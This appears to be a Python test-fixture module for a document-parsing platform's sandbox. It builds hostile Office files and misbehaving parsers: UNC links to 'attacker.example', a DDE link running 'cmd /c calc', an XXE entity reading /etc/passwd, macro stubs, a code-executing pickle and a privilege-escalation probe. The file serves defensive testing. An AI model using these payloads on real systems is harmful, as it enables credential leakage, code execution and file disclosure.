    return workbook(
        overrides={"/xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"},
        workbook_rels=[Rel("rId9", MS_REL + "vbaProject", "vbaProject.bin")],
        extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
    )


def external_link_part(link: str) -> bytes:
    return (DECLARATION + f'<externalLink xmlns="{SHEET_NS}" xmlns:r="{R_NS}">{link}'
            "</externalLink>").encode()  # fmt: skip


def workbook_with_external_link(*, typed: bool = True) -> bytes:
    """A link to another workbook on a share, whose cells Excel reads when the data is edited."""
    return workbook(
        overrides={"/xl/externalLinks/externalLink1.xml": EXTERNAL_LINK_TYPE} if typed else None,
        workbook_rels=[Rel("rId7", REL + "externalLink", "externalLinks/externalLink1.xml")],
        extra={
            "xl/externalLinks/externalLink1.xml": external_link_part('<externalBook r:id="rId1"/>'),
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                [
                    Rel(
                        "rId1",
                        REL + "externalLinkPath",
                        "file:///\\\\attacker.example\\s\\book.xlsx",
                        True,
                    )
                ]
            ),
        },
    )


def workbook_with_dde_link() -> bytes:
    """Excel's DDE attack: a `ddeLink` that starts a program, in a part of no declared type and
    with no relationship that says what it is."""
    return workbook(
        extra={
            "xl/links.xml": external_link_part(
                '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
                "</ddeItems></ddeLink>"
            )
        }
    )


def workbook_with_link_to_a_share() -> bytes:
    return workbook(sheet_rels=[Rel("rId1", REL + "hyperlink", "\\\\attacker.example\\s", True)])


def workbook_with_doctype() -> bytes:
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        f'<worksheet xmlns="{SHEET_NS}"><sheetData/></worksheet>'
    ).encode()
    return workbook(sheet=sheet)


def word_macros_as_workbook() -> bytes:
    """A macro-enabled Word document where the chart's workbook should be."""
    return macro_enabled_renamed()


def chart_with_macros_elsewhere() -> bytes:
    """The chart's workbook, with macros, outside any `embeddings` folder."""
    parts = chart_parts(workbook_with_macros())
    book = parts.pop("word/embeddings/Microsoft_Excel_Worksheet.xlsx")
    parts["word/media/data.xlsx"] = book
    parts["word/charts/_rels/chart1.xml.rels"] = relationships(
        [Rel("rId1", REL + "package", "../media/data.xlsx")]
    )
    return minimal_docx(
        document_rels=[Rel("rId9", REL + "chart", "charts/chart1.xml")],
        overrides={"/word/charts/chart1.xml": CHART_TYPE},
        defaults={"xlsx": WORKBOOK_TYPE},
        extra=parts,
    )


def workbook_with_a_chart(book: bytes) -> bytes:
    """A workbook whose own chart keeps its data in `book`: one more level of embedding."""
    return workbook(
        overrides={"/xl/charts/chart1.xml": CHART_TYPE},
        defaults={"xlsx": WORKBOOK_TYPE},
        extra=chart_parts(book, folder="xl"),
    )


def charts_nested_too_deep() -> bytes:
    return with_chart(workbook_with_a_chart(workbook_with_a_chart(workbook())))


# ---------------------------------------------------------------------------------------------
# Parsing functions that misbehave, for `parse_with_limits`


def sleep_forever(data: bytes) -> None:
    time.sleep(3600)


def allocate_without_end(data: bytes) -> list[bytes]:
    hoard = []
    while True:
        hoard.append(bytes(64 << 20))


def crash(data: bytes) -> None:
    """A parser that crashes (as a C library taken over by a hostile file would)."""
    os.kill(os.getpid(), signal.SIGSEGV)


def raise_an_error(data: bytes, name: str) -> None:
    """An exception of the engine's own (a bug, whatever the file), by its built-in name, whose
    message quotes the document as a reader's error would."""
    raise getattr(builtins, name)(
        "line 1: near «Article 7, confidential» it went wrong\nTraceback (most recent"
    )


def refuse_in_child(data: bytes) -> None:
    from documents.errors import DocumentRefused, RefusalCode

    raise DocumentRefused(RefusalCode.NO_TRACKED_CHANGES, "The proposal has no tracked changes.")


def paragraph_texts(data: bytes) -> list[str]:
    """A real reader: python-docx's view of the body, in the child."""
    import docx

    return [paragraph.text for paragraph in docx.Document(BytesIO(data)).paragraphs]


def count_with_offset(data: bytes, offset: int, *, scale: int = 1) -> int:
    return (len(data) + offset) * scale


def raise_a_bug(data: bytes) -> None:
    """A bug of the engine, whose message quotes the document (as a KeyError of a style name
    would)."""
    raise AttributeError("'NoneType' has no attribute 'text' near «Article 7, confidential»")


def return_a_tuple(data: bytes) -> tuple[int, int]:
    return (1, 2)


# ---------------------------------------------------------------------------------------------
# What the parsing child sees of the platform (issue #9): probes run inside it


def sandbox_probe(data: bytes, secret_file: str, canary: str) -> dict[str, object]:
    """Who and where the child is, what it holds open, what its environment says, and whether it
    can read a file only root may read: all of it JSON, as the child's answer must be."""
    import ctypes
    import stat

    listed = [int(name) for name in os.listdir("/proc/self/fd")]
    descriptors = {}
    for fd in listed:
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue  # the listing's own descriptor, closed by now
        descriptors[str(fd)] = (
            "pipe" if stat.S_ISFIFO(mode) else "character device" if stat.S_ISCHR(mode) else "other"
        )
    try:
        with open(secret_file, "rb") as secret:
            secret.read()
        read_the_secret = True
    except OSError:
        read_the_secret = False
    try:
        os.setuid(0)
        became_root = os.getuid() == 0
    except OSError:
        became_root = False
    with open("/proc/self/stat", "rb") as file:
        fields = file.read().rsplit(b")", 1)[1].split()
    start, end = int(fields[47]), int(fields[48])
    block = ctypes.string_at(start, end - start) if 0 < start < end else b""
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file.read().splitlines() if ":" in line)
    return {
        "uid": os.getuid(),
        "euid": os.geteuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "cwd": os.getcwd(),
        "cwd_entries": os.listdir("."),
        "environment": dict(os.environ),
        "descriptors": descriptors,
        "read_the_secret": read_the_secret,
        "became_root": became_root,
        "canary_in_environment_block": canary.encode() in block,
        "environment_block_is_blank": not block.strip(b"\x00"),
        "no_new_privileges": status.get("NoNewPrivs", "").strip() == "1",
        "relative_import_paths": [entry for entry in sys.path if not os.path.isabs(entry)],
    }


class _Planted:
    """Unpickling this calls `os.mkdir(path)`: what a hostile child could send the parent if the
    parent unpickled its answer."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.mkdir, (self.path,))


def planted_pickle(path: str) -> bytes:
    return pickle.dumps(("ok", _Planted(path)))


def answer_with_a_pickle(data: bytes, path: str, framed: bool) -> None:
    """A child taken over: it writes a pickle on its answer's descriptor (the only one it holds
    besides the standard ones), bare or framed as `multiprocessing`'s `Connection.send` frames
    it, and ends before the platform's code can answer."""
    payload = planted_pickle(path)
    if framed:
        payload = struct.pack("!i", len(payload)) + payload
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd > 2:
            try:
                os.write(fd, payload)
            except OSError:
                continue
    os._exit(0)
